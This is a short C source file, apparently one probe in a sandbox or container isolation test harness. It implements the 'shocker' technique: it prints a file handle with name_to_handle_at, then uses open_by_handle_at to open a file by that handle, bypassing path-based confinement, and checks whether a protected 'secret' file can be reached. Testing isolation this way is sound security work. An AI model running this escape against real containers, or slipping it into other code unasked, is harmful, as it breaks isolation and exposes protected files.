/* SPDX-License-Identifier: Apache-2.0 */
/* open_by_handle_at ("shocker"): a file by its number in the file system, past every path. ARG: the handle of the secret, which 'handle make FILE' prints. */
#include "attack.h"

struct handle {
	unsigned int size;
	int type;
	unsigned char bytes[128];
};

static int make(const char *path)
{
	struct handle handle = { .size = sizeof(handle.bytes) };
	int mount;

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &handle, &mount, 0) < 0)
		return 1;
	printf("%d ", handle.type);
	for (unsigned int i = 0; i < handle.size; i++)
		printf("%02x", handle.bytes[i]);
	printf("\n");
	return 0;
}

static int open_handle(const struct attack *a)
{
	struct handle handle = { .size = 0 };
	const char *hex = a->more[0] ? a->more[1] : "0000000000000000"; /* where no handle could be had */
	int directory = open(a->work, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (!hex || directory < 0)
		return NOTHING;
	handle.type = a->more[0] ? (int)strtol(a->more[0], NULL, 10) : 1;
	for (; hex[0] && hex[1] && handle.size < sizeof(handle.bytes); hex += 2, handle.size++)
		handle.bytes[handle.size] = (unsigned char)strtoul((char[]){ hex[0], hex[1], 0 }, NULL, 16);
	return is_secret((int)syscall(SYS_open_by_handle_at, directory, &handle, O_RDONLY | O_CLOEXEC));
}

static const struct way ways[] = {
	{ "open_by_handle_at", open_handle },
};

int main(int argc, char **argv)
{
	return argc == 3 && !strcmp(argv[1], "make") ? make(argv[2]) : attack_main(ways, COUNT(ways), argc, argv);
}
